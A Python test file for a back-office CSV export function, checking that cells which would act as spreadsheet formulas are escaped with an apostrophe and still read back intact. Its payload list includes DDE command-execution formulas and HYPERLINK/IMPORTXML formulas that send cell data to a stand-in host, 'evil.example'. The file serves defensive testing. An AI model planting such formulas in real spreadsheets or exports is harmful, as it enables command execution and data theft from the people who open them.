"""CSV that no spreadsheet takes for formulas, and that reads back as it was."""

import csv
import io
import itertools
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kombo_pipeline.backoffice.widgets.csv_export import as_cell, csv_lines

PREFIXES = ("", " ", "  ", "\n", "\u00a0", "\u3000", "\ufeff", "\t", "\r")
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("https://evil.example?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", "'=1", "=\"\r\n\"", "+,\"", "@;", "=", "-",
    "=IMPORTXML(CONCAT(\"https://evil.example\"))", "+A1", "-A1", "@A1", "=A1",
)  # fmt: skip


@pytest.mark.parametrize("payload", ["".join(pair) for pair in itertools.product(PREFIXES, FORMULAS)])
def test_no_payload_is_left_as_a_formula(payload: str) -> None:
    assert as_cell(payload) == f"'{payload}"
    assert read([[payload]]) == [["name"], [payload]]


@pytest.mark.parametrize("text", ["", "Engineer", "a=b", "1-2", " Berlin", 'Ärztin, "Köln"\r\n2nd line', "it's"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert as_cell(text) == text
    assert as_cell(None) == ""


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=6))
def test_any_text_reads_back(rows: list[list[str]]) -> None:
    assert read(rows)[1:] == rows


def read(rows: list[list[Any]]) -> list[list[str]]:
    """What a program reads of an export."""
    text = "".join(csv_lines(["name"], rows)).removeprefix("\ufeff")
    return [[cell.removeprefix("'") for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]
